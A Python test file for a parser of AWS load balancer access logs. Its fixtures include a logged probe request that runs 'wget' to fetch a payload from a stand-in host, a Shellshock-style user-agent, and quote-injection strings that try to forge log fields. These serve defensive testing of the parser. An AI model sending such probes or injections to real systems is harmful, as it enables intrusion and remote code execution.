"""Access logs of load balancers: lines as AWS shows them, of other kinds, and as clients spoil them."""

import random
from datetime import datetime
from decimal import Decimal
from typing import Any

import pyarrow as pa
import pytest
from hypothesis import given
from hypothesis import strategies as st

from shardlake.core.compiler import compile_view
from shardlake.packs.pack import Decoded, Reason
from shardlake.packs.registry import load

PACK = load("alb")
GROUP = "arn:aws:elasticloadbalancing:us-east-2:123456789012:targetgroup/my-targets/73e2d6bc24d8a067"
USUAL = {
    "type": "https", "time": "2018-07-02T22:23:00.186641Z", "elb": "app/my-loadbalancer/50dc6c495c0c9188",
    "client": "192.168.131.39:2817", "target": "10.0.0.1:80", "request_processing_time": "0.086",
    "target_processing_time": "0.048", "response_processing_time": "0.037", "elb_status_code": "403",
    "target_status_code": "403", "received_bytes": "0", "sent_bytes": "57",
    "request": "GET https://www.example.com:443/ HTTP/1.1", "agent": "curl/7.46.0",
    "ssl_cipher": "ECDHE-RSA-AES128-GCM-SHA256", "ssl_protocol": "TLSv1.2", "target_group_arn": GROUP,
    "trace_id": "Root=1-58337281-1d84f3d73c47ec4e58577259", "domain_name": "www.example.com",
    "chosen_cert_arn": "arn:aws:acm:us-east-2:123456789012:certificate/12345678-1234-1234-1234-123456789012",
    "matched_rule_priority": "1", "request_creation_time": "2018-07-02T22:22:48.364000Z",
    "actions_executed": "authenticate,forward", "redirect_url": "-", "error_reason": "-",
    "target_list": "10.0.0.1:80", "target_status_code_list": "200", "classification": "-",
    "classification_reason": "-", "conn_trace_id": "TID_1234abcd5678ef90", "transformed_host": "m.example.com",
    "transformed_uri": "https://m.example.com:443/new", "request_transform_status": "Success",
}  # fmt: skip
FIELDS = tuple(USUAL)
QUOTED = frozenset(FIELDS[12:14] + FIELDS[17:20] + FIELDS[22:29] + FIELDS[30:])
WHOLE = ("elb_status_code", "target_status_code", "received_bytes", "sent_bytes", "matched_rule_priority")
SECONDS = ("request_processing_time", "target_processing_time", "response_processing_time")
TIMES = ("time", "request_creation_time")

# As the guide of Application Load Balancers shows them.
SHOWN = [
    'http 2018-07-02T22:23:00.186641Z app/my-loadbalancer/50dc6c495c0c9188 192.168.131.39:2817 10.0.0.1:80 0.000 0.001 '
    '0.000 200 200 34 366 "GET http://www.example.com:80/ HTTP/1.1" "curl/7.46.0" - - ' + GROUP + " "
    '"Root=1-58337262-36d228ad5d99923122bbe354" "-" "-" 0 2018-07-02T22:22:48.364000Z "forward" "-" "-" '
    '"10.0.0.1:80" "200" "-" "-"',
    'https 2018-07-02T22:23:00.186641Z app/my-loadbalancer/50dc6c495c0c9188 192.168.131.39:2817 10.0.0.1:80 0.086 '
    '0.048 0.037 200 200 0 57 "GET https://www.example.com:443/ HTTP/1.1" "curl/7.46.0" ECDHE-RSA-AES128-GCM-SHA256 '
    "TLSv1.2 " + GROUP + ' "Root=1-58337281-1d84f3d73c47ec4e58577259" "www.example.com" '
    '"arn:aws:acm:us-east-2:123456789012:certificate/12345678-1234-1234-1234-123456789012" 1 '
    '2018-07-02T22:22:48.364000Z "authenticate,forward" "-" "-"',
    'h2 2018-07-02T22:23:00.186641Z app/my-loadbalancer/50dc6c495c0c9188 10.0.1.252:48160 10.0.0.66:9000 0.000 0.002 '
    '0.000 200 200 5 257 "GET https://10.0.2.105:773/ HTTP/2.0" "curl/7.46.0" ECDHE-RSA-AES128-GCM-SHA256 TLSv1.2 '
    + GROUP + ' "Root=1-58337327-72bd00b0343d75b906739c42" "-" "-" 1 2018-07-02T22:22:48.364000Z "redirect" '
    '"https://example.com:80/" "-"',
    'ws 2018-07-02T22:23:00.186641Z app/my-loadbalancer/50dc6c495c0c9188 10.0.0.140:40914 10.0.1.192:8010 0.001 0.003 '
    '0.000 101 101 218 587 "GET http://10.0.0.30:80/ HTTP/1.1" "-" - - ' + GROUP + " "
    '"Root=1-58337364-23a8c76965a2ef7629b185e3" "-" "-" 1 2018-07-02T22:22:48.364000Z "forward" "-" "-"',
    'http 2018-11-30T22:23:00.186641Z app/my-loadbalancer/50dc6c495c0c9188 192.168.131.39:2817 - 0.000 0.001 0.000 502 '
    '- 34 366 "GET http://www.example.com:80/ HTTP/1.1" "curl/7.46.0" - - ' + GROUP + " "
    '"Root=1-58337364-23a8c76965a2ef7629b185e3" "-" "-" 0 2018-11-30T22:22:48.364000Z "forward" "-" '
    '"LambdaInvalidResponse"',
    'http 2016-08-10T22:08:42.945958Z app/my-loadbalancer/50dc6c495c0c9188 192.168.131.39:2817 10.0.0.1:80 0.000 0.001 '
    '0.000 200 200 34 366 "GET http://www.example.com:80/ HTTP/1.1" "curl/7.46.0" - - ' + GROUP + " "
    '"Root=1-58337262-36d228ad5d99923122bbe354"',
]  # fmt: skip
# What no target answered, and what was no request at all.
UNANSWERED = (
    "http 2022-05-12T06:41:29.051646Z app/admin/3011821a43ee0c5e 75.100.154.140:41542 - -1 -1 -1 301 - 233 390 "
    '"GET http://127.0.0.1:80/shell?cd+/tmp;wget+ example.org/jaws HTTP/1.1" "Hello, world" - - - '
    '"Root=1-627cac19-4c6df30820daa80e3fd72ced" "-" "-" 0 2022-05-12T06:41:29.051000Z "redirect" '
    '"https://127.0.0.1:443/shell?cd+/tmp;wget+ example.org/jaws" "-" "-" "-" "Acceptable" "SpaceInUri"'
)
BALANCER = "net/my-network-loadbalancer/c6e77e28c25b2234 g3d4b5e8bb8464cd"
CERTIFICATE = "arn:aws:acm:us-east-2:671290407336:certificate/2a108f19-aded-46b0-8493-c63eb1ef4a99"
CONNECTION = """\
2023-10-04T17:05:15.514108Z 203.0.113.1 36280 443 TLSv1.2 ECDHE-RSA-AES128-GCM-SHA256 4.036
"CN=amazondomains.com,O=endEntity,L=Seattle,ST=Washington,C=US" NotBefore=2023-09-21T22:43:21Z;NotAfter=2026-06-17T22:43
FEF257372D5C14D4 Success TID_3180a73013c8ca4bac2f731159d4b0fe"""
NETWORK = f"""\
tls 2.0 2020-04-01T08:51:42 {BALANCER} 72.21.218.154:51341 172.100.100.185:443 5 2 98 246 - {CERTIFICATE} -
ECDHE-RSA-AES128-SHA tlsv12 - my-network.elb.us-east-2.amazonaws.com {{}} 2020-04-01T08:51:20"""
OTHERS = [
    NETWORK.format("- - -").replace("\n", " "),
    NETWORK.format('h2 h2 "h2","http/1.1"').replace("\n", " "),
    CONNECTION.replace("\n", " "),
    "httpx" + SHOWN[0][4:],
]


def line(width: int = len(FIELDS), /, **other: str) -> str:
    """A line of so many fields, some other than usual; those that AWS writes in quotes are in quotes."""
    values = USUAL | other
    return " ".join(f'"{values[name]}"' if name in QUOTED else values[name] for name in FIELDS[:width])


def decoded(*lines: str) -> Decoded:
    return PACK.open("log").decode("\n".join(lines).encode())


def events(*lines: str) -> list[dict[str, Any]]:
    """The events of lines of which each is one."""
    found = decoded(*lines)
    assert [(letter.index, letter.reason, letter.detail) for letter in found.letters] == []
    assert found.lines.tolist() == list(range(len(lines)))
    rows: list[dict[str, Any]] = PACK.enrich(found.rows).to_pylist()
    return rows


def expected(values: dict[str, str], width: int = len(FIELDS)) -> dict[str, Any]:
    """The columns that are read, from the texts of a line's fields."""
    found: dict[str, Any] = {name: None if text in ("-", "") else text for name, text in values.items()}
    found |= {name: int(found[name]) for name in WHOLE if found[name] is not None}
    found |= {name: Decimal(found[name]) for name in SECONDS}
    found |= {name: datetime.fromisoformat(found[name]).replace(tzinfo=None) for name in TIMES}
    return found | dict.fromkeys(FIELDS[width:])


# ------------------------------------------------------------------------------------------------ as AWS shows it


def test_lines_of_the_documentation_are_read() -> None:
    http, https, h2, ws, lambda_failed, old = events(*SHOWN)
    assert http["time"] == datetime(2018, 7, 2, 22, 23, 0, 186641)
    assert (http["elb"], http["client"], http["target"]) == (USUAL["elb"], "192.168.131.39:2817", "10.0.0.1:80")
    assert (http["received_bytes"], http["sent_bytes"], http["target_list"]) == (34, 366, "10.0.0.1:80")
    assert [https[name] for name in SECONDS] == [Decimal("0.086"), Decimal("0.048"), Decimal("0.037")]
    assert (https["ssl_protocol"], https["domain_name"], https["matched_rule_priority"]) == (
        "TLSv1.2",
        "www.example.com",
        1,
    )
    assert (h2["actions_executed"], h2["redirect_url"]) == ("redirect", "https://example.com:80/")
    assert (ws["type"], ws["elb_status_code"], ws["user_agent"]) == ("ws", 101, None)
    assert (lambda_failed["target"], lambda_failed["target_status_code"]) == (None, None)
    assert (lambda_failed["elb_status_code"], lambda_failed["error_reason"]) == (502, "LambdaInvalidResponse")
    assert (old["trace_id"], old["domain_name"]) == ("Root=1-58337262-36d228ad5d99923122bbe354", None)


@pytest.mark.parametrize("width", range(18, len(FIELDS) + 1))
def test_every_field_has_its_column_in_lines_of_every_age(width: int) -> None:
    [row] = events(line(width))
    assert {name: row[name] for name in FIELDS} == expected(USUAL, width)


def test_new_fields_behind_the_last_are_passed_over() -> None:
    rows = events(line() + " new", line() + " new 5 TID_x")
    assert [{name: row[name] for name in FIELDS} for row in rows] == [expected(USUAL)] * 2


def test_a_new_field_in_quotes_never_changes_the_others() -> None:
    for row in decoded(line() + ' "new one"', line() + ' 5 "new" x').rows.to_pylist():
        assert {name: row[name] for name in FIELDS} == expected(USUAL)


@pytest.mark.parametrize("kind", ["http", "https", "h2", "grpcs", "ws", "wss"])
def test_all_kinds_of_requests_are_read(kind: str) -> None:
    assert events(line(type=kind))[0]["type"] == kind


@pytest.mark.parametrize("other", OTHERS)
def test_lines_of_other_kinds_of_logs_are_told_apart(other: str) -> None:
    found = decoded(SHOWN[0], other, SHOWN[1])
    assert [(letter.index, letter.reason) for letter in found.letters] == [(1, Reason.OTHER_KIND)]
    assert found.lines.tolist() == [0, 2]


def test_a_request_that_no_target_answered() -> None:
    [row] = events(UNANSWERED)
    assert [row[name] for name in SECONDS] == [Decimal(-1)] * 3
    assert row["duration"] is None
    assert (row["target"], row["target_ip"], row["target_port"], row["target_group"]) == (None,) * 4
    assert (row["classification"], row["classification_reason"]) == ("Acceptable", "SpaceInUri")
    assert row["path"] == "/shell"


def test_targets_that_were_tried_are_a_list() -> None:
    [row] = events(line(target_list="10.0.0.1:80 10.0.0.2:80", target_status_code_list="502 200"))
    assert (row["target_list"], row["target_status_code_list"]) == ("10.0.0.1:80 10.0.0.2:80", "502 200")


def test_retries_share_a_trace_id_and_are_events_all_the_same() -> None:
    assert PACK.schema.event_id is None
    assert len(events(line(), line())) == 2


# ---------------------------------------------------------------------------------------------------- of clients

REST = f'c p {GROUP} "Root=1-1" "d" "c" 0 2018-07-02T22:22:48.364000Z "forward" "-" "-" "10.0.0.1:80" "200" "-" "-"'
TRANSFORMED = 'TID_1 "h" "u" "s"'


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("request", "GET https://www.example.com:443/a b c HTTP/1.1"),
        ("request", r"GET https://www.example.com:443/?a=\x22b\x22 HTTP/1.1"),
        ("request", "- http://www.example.com:80- "),
        ("agent", "Mozilla/5.0 (X11; 'x') [a] \\"),
        ("agent", "ünï ☃ \t x"),
        ("agent", " "),
    ],
)
def test_what_a_client_sends_may_hold_what_is_no_quote(name: str, text: str) -> None:
    values = USUAL | {name: text}
    [row] = events(line(**values))
    assert {column: row[column] for column in FIELDS} == expected(values)


@pytest.mark.parametrize("width", [25, 29, 33])
@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("agent", f'evil" {REST} {TRANSFORMED}'.removesuffix('"')),
        ("agent", f'evil" {REST} {TRANSFORMED} "'),
        ("agent", f'evil" {REST}'.removesuffix('"')),
        ("request", f'GET http://a:80/ HTTP/1.1" "evil" {REST} {TRANSFORMED} "'),
        ("request", 'GET http://a:80/ HTTP/1.1" "evil'),
        ("request", 'GET https://www.example.com:443/?a="b c" HTTP/1.1'),
        ("agent", 'Mozilla/5.0 (X11) Safari/604.1"'),
        ("agent", '"Mozilla" "5.0'),
        ("agent", '() { :;}; echo "x"'),
        ("trace_id", 'Root=1" "d" "c" 0 2018-07-02T22:22:48.364000Z "forward'),
    ],
)
def test_no_client_can_forge_the_other_fields(name: str, text: str, width: int) -> None:
    values = USUAL | {name: text}
    found = decoded(line(width, **values))
    for row in found.rows.to_pylist():
        assert {column: row[column] for column in FIELDS} == expected(values, width)
    assert {letter.reason for letter in found.letters} <= {Reason.MALFORMED}


PIECES = st.sampled_from(
    ['"', " ", '" "', '"-"', "-", "x", "7", f'" {REST}', f'" {REST} {TRANSFORMED} "', f'" - - {GROUP} "', "\\x22"]
)
TEXTS = st.lists(PIECES, max_size=6).map("".join)


@given(request=TEXTS, agent=TEXTS, trace=TEXTS, width=st.integers(25, len(FIELDS)))
def test_a_line_is_read_as_it_was_meant_or_not_at_all(request: str, agent: str, trace: str, width: int) -> None:
    values = USUAL | {"request": request, "agent": agent, "trace_id": trace}
    found = decoded(line(width, **values))
    assert len(found.letters) + found.rows.num_rows == 1
    for row in found.rows.to_pylist():
        assert {column: row[column] for column in FIELDS} == expected(values, width)


# ------------------------------------------------------------------------------------------------------ bad lines

BAD = [
    (line(17), Reason.TOO_FEW_FIELDS),
    (line(elb_status_code="20O"), Reason.WRONG_TYPE),
    (line(sent_bytes="1e3"), Reason.WRONG_TYPE),
    (line(target_processing_time="0,048"), Reason.WRONG_TYPE),
    (line(target_processing_time="0.0480001"), Reason.WRONG_TYPE),
    (line(time="2018-07-02T25:23:00Z"), Reason.WRONG_TYPE),
    (line(time="-"), Reason.MISSING),
    (line(elb="-"), Reason.MISSING),
    (line().replace('"curl/7.46.0"', '"curl/7.46.0'), Reason.MALFORMED),
]


@pytest.mark.parametrize(("bad", "reason"), BAD)
def test_a_line_that_cannot_be_read_is_a_dead_letter_and_its_neighbours_are_not(bad: str, reason: Reason) -> None:
    found = decoded(line(), bad, line())
    assert [(letter.index, letter.reason, letter.payload) for letter in found.letters] == [(1, reason, bad.encode())]
    assert found.lines.tolist() == [0, 2]


LINES = [
    *SHOWN, UNANSWERED, *OTHERS, *(bad for bad, _ in BAD), line(), line(25), line(agent='a "b" c'), line() + ' "new"',
    "", line() + "\r", line(agent="ünï"),
]  # fmt: skip


@pytest.mark.parametrize("seed", range(3))
def test_blocks_do_not_matter(seed: int) -> None:
    rng = random.Random(seed)
    lines = [one + "\n" for one in rng.sample(LINES, len(LINES))]
    at_once = PACK.open("log").decode("".join(lines).encode())
    decoder, first = PACK.open("log"), 0
    numbers: list[int] = []
    letters: list[tuple[int, Reason, str, bytes]] = []
    parts: list[pa.Table] = []
    while first < len(lines):
        size = rng.randrange(1, 9)
        part = decoder.decode("".join(lines[first : first + size]).encode())
        numbers += [first + place for place in part.lines.tolist()]
        letters += [(first + x.index, x.reason, x.detail, x.payload) for x in part.letters]
        parts.append(part.rows)
        first += size
    assert numbers == at_once.lines.tolist()
    assert letters == [(x.index, x.reason, x.detail, x.payload) for x in at_once.letters]
    assert pa.concat_tables(parts).to_pylist() == at_once.rows.to_pylist()


# --------------------------------------------------------------------------------------------- what values tell


@pytest.mark.parametrize(
    ("client", "address", "port"),
    [
        ("192.168.131.39:2817", "192.168.131.39", 2817),
        ("[2001:db8::1]:443", "2001:db8::1", 443),
        ("2001:db8::1:443", "2001:db8::1", 443),
        ("192.168.131.39", None, None),
        ("-", None, None),
    ],
)
def test_a_client_has_an_address_and_a_port(client: str, address: str | None, port: int | None) -> None:
    [row] = events(line(client=client, target=client))
    assert (row["client_ip"], row["client_port"]) == (row["target_ip"], row["target_port"]) == (address, port)


@pytest.mark.parametrize(
    ("request_line", "method", "host", "path"),
    [
        ("GET https://www.example.com:443/a/b?c=/d HTTP/2.0", "GET", "www.example.com", "/a/b"),
        ("GET http://[2001:db8::1]:80/ HTTP/1.1", "GET", "[2001:db8::1]", "/"),
        ("GET http://a:80/b c d HTTP/1.1", "GET", "a", "/b c d"),
        ("GET http://a:80?b=/c HTTP/1.1", "GET", "a", None),
        ("- http://host.example:80- ", None, "host.example", None),
        ("- - - ", None, None, None),
        ("-", None, None, None),
    ],
)
def test_a_request_has_a_method_a_host_and_a_path(
    request_line: str, method: str | None, host: str | None, path: str | None
) -> None:
    [row] = events(line(request=request_line))
    assert (row["method"], row["host"], row["path"]) == (method, host, path)


def test_times_are_exact_and_add_up() -> None:
    [row] = events(line())
    assert row["duration"] == Decimal("0.171")
    assert row["target_group"] == "my-targets"
    assert events(line(response_processing_time="-1"))[0]["duration"] is None


FILE = "123456789012_elasticloadbalancing_us-east-2_app.my-loadbalancer.1234567890abcdef_20220215T2340Z_{}_20sg8hgm"


@pytest.mark.parametrize(
    ("name", "key"),
    [
        (f"AWSLogs/1/2022/05/01/{FILE.format('10.0.0.1')}.log.gz", FILE.format("10.0.0.1")),
        (f"copy/{FILE.format('2001:db8::1')}.log", FILE.format("2001:db8::1")),
        ("AWSLogs/123456789012/ELBAccessLogTestFile", None),
        (FILE.format("10.0.0.1").replace("_app.", "_net.") + ".log.gz", None),
    ],
)  # fmt: skip
def test_copies_of_a_file_have_one_bucket_key(name: str, key: str | None) -> None:
    assert PACK.bucket_key(name) == key


def test_views_compile_and_queries_name_views() -> None:
    for name, sql in PACK.views.items():
        assert compile_view(name, sql, PACK.schema).name == name
    for sql in PACK.queries.values():
        description, views = sql.splitlines()[:2]
        assert description.startswith("-- description: ")
        assert set(views.removeprefix("-- views: ").split(", ")) <= PACK.views.keys()


def test_what_repeats_other_columns_says_so() -> None:
    assert PACK.derived["client_ip"] == PACK.derived["client_port"] == ("client",)
    assert PACK.derived["host"] == PACK.derived["path"] == ("request",)
    assert PACK.derived["user_agent"] == ("agent",)
